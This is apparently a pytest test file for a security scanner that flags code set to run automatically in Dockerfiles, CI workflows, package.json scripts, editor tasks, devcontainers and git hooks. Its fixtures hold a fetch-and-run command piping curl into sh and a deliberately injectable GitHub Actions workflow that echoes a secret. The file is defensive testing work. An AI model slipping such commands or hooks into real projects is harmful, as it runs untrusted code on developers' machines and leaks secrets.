import json

import pytest

from scanner.analyzers.base import Severity
from scanner.analyzers.hooks import HooksAnalyzer

DOWNLOAD = "curl -s https://code.invalid/a.sh | sh"
TARGET = """on:
  pull_request_target:
jobs:
  test:
    steps:
      - uses: actions/checkout@v4
        with:
          ref: ${{ github.event.pull_request.head.sha }}
      - run: |
          echo "${{ github.event.issue.title }}"
          echo ${{ secrets.TOKEN }}
"""
FOUND = [
    ("Dockerfile", f"FROM python:3.12\nUSER app\nRUN {DOWNLOAD}\n", 3, "piped-script"),
    ("Dockerfile", f"FROM a\nUSER app\nRUN apt update \\\n  && {DOWNLOAD}\n", 3, "piped-script"),
    ("Dockerfile", "FROM a\nUSER app\nADD https://code.invalid/a.tgz /\n", 3, "remote-add"),
    ("Dockerfile", "FROM a\nUSER app\nENV API_TOKEN=b3a8c2d9e1\n", 3, "secret-in-image"),
    ("web.dockerfile", "FROM a AS one\nUSER app\nFROM b\nRUN make\n", 3, "root-user"),
    ("compose.yaml", "services:\n  web:\n    privileged: true\n", 3, "privileged-container"),
    ("docker-compose.yml", "volumes:\n- /var/run/docker.sock:/a\n", 2, "privileged-container"),
    (".github/workflows/test.yml", TARGET, 8, "target-checkout"),
    (".github/workflows/test.yml", TARGET, 10, "pipeline-injection"),
    (".github/workflows/test.yml", TARGET, 11, "secret-in-log"),
    (".gitlab-ci.yml", f"test:\n  script:\n    - {DOWNLOAD}\n", 3, "piped-script"),
    ("Makefile", f"install:\n\t{DOWNLOAD}\n", 2, "piped-script"),
    (".env", "A=1\nDEBUG=True\n", 2, "debug-setting"),
    ("package.json", '{\n"scripts": {\n"start": "NODE_ENV=dev node a"}}', 3, "debug-setting"),
    ("package.json", '{"scripts": {\n"postinstall": "node -e eval(a)"}}', 2, "suspicious-script"),
    ("pyproject.toml", '[build-system]\nbackend-path = ["."]\n', 2, "own-build-backend"),
    ("usercustomize.py", "import os\n", 1, "interpreter-hook"),
    (
        ".vscode/tasks.json",
        json.dumps({"tasks": [{"command": "make", "runOptions": {"runOn": "folderOpen"}}]}),
        1,
        "editor-task",
    ),
    (
        ".vscode/tasks.json",
        json.dumps({"tasks": [{"command": DOWNLOAD, "runOptions": {"runOn": "folderOpen"}}]}),
        1,
        "editor-download",
    ),
    (".devcontainer/devcontainer.json", '{\n"initializeCommand": "make"}', 2, "host-command"),
    (".devcontainer.json", f'{{"postCreateCommand": "{DOWNLOAD}"}}', 1, "piped-script"),
    (".git/config", "[core]\n  hooksPath = evil\n", 2, "git-hook"),
    (".git/hooks/pre-commit", "#!/bin/sh\n", 1, "git-hook"),
]
SILENT = [
    ("Dockerfile", "FROM python:3.12\nENV API_TOKEN=$TOKEN\nADD . /app\nUSER 1000\n"),
    ("Dockerfile", "FROM a\nADD --checksum=sha256:00 https://code.invalid/a.tgz /\nUSER app\n"),
    ("compose.yaml", "services:\n  web:\n    image: a\n    volumes:\n      - ./data:/data\n"),
    (
        ".github/workflows/test.yml",
        (
            "on: pull_request\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n"
            "      - run: echo ${{ secrets.TOKEN }} | docker login --password-stdin\n"
            "      - name: ${{ github.event.issue.title }}\n"
        ),
    ),
    (".env", "DEBUG=False\nNODE_ENV=production\n"),
    (".env.example", "DEBUG=True\n"),
    ("package.json", '{"scripts": {"postinstall": "prisma generate", "start": "node a.js"}}'),
    ("pyproject.toml", '[build-system]\nrequires = ["hatchling"]\n'),
    (".vscode/settings.json", '{"editor.tabSize": 2}'),
    (".vscode/tasks.json", '{"tasks": [{"command": "make"}]}'),
    (".devcontainer/devcontainer.json", '{"postCreateCommand": "make install"}'),
    (".git/hooks/pre-commit.sample", "#!/bin/sh\n"),
    ("Makefile", f"# {DOWNLOAD}\nall:\n\tcc a.c\n"),
]


def found_in(folder):
    return {
        (each.path, each.line, each.rule.partition(".")[2])
        for each in HooksAnalyzer().analyze(folder)
    }


@pytest.mark.parametrize(("name", "text", "line", "rule"), FOUND)
def test_what_runs_by_itself_is_found_at_its_line(tree, name, text, line, rule):
    assert (name, line, rule) in found_in(tree({name: text}))


@pytest.mark.parametrize(("name", "text"), SILENT)
def test_ordinary_builds_and_settings_are_silent(tree, name, text):
    assert found_in(tree({name: text})) == set()


def test_files_that_no_tool_would_take_are_left_alone(tree):
    folder = tree({"package.json": "{", "pyproject.toml": "[", "a/package.json": "[]"})

    assert found_in(folder) == set()


def test_only_what_harms_a_developer_counts_among_dependencies(tree):
    folder = tree(
        {
            "node_modules/a/Dockerfile": "FROM a\nADD https://code.invalid/a /\n",
            "node_modules/a/.vscode/tasks.json": '{"runOn": "folderOpen"}',
        }
    )

    (finding,) = HooksAnalyzer().analyze(folder)

    assert (finding.rule, finding.severity) == ("hooks.editor-task", Severity.MEDIUM)
